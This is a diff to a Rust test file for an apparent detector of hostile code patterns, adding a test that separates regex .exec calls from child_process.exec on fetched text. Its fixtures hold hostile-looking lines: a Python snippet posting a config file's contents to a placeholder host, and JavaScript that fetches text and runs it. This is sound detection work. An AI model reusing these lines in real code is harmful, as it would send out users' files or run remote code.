@@ -340,3 +340,29 @@ fn global_object_calls_and_built_credential_paths() {
     let t = "import os, requests\np = os.path.join(os.path.expanduser('~'), '.config', 'app', 'settings.json')\nrequests.post('https://x.example/c', data=open(p).read())\n";
     assert!(kinds_of(Language::Python, t).is_empty());
 }
+
+#[test]
+fn a_regex_exec_on_fetched_text_runs_nothing() {
+    let fetched = "const body = await (await fetch(u)).text();\n";
+    for call in [
+        "/^perm:(allow|deny)$/.exec(body);",
+        "permission_reply_re.exec(body);",
+        "lineRegex.exec(body);",
+    ] {
+        let text = format!("{fetched}{call}\n");
+        assert!(
+            kinds_of(Language::JavaScript, &text).is_empty(),
+            "{call}: {:?}",
+            kinds_of(Language::JavaScript, &text)
+        );
+    }
+    // `child_process.exec` and an `exec` imported from it still run the text.
+    assert_eq!(
+        kinds_of(Language::JavaScript, &format!("{fetched}cp.exec(body);\n")),
+        ["RunFetched"]
+    );
+    assert_eq!(
+        kinds_of(Language::JavaScript, &format!("{fetched}exec(body);\n")),
+        ["RunFetched"]
+    );
+}
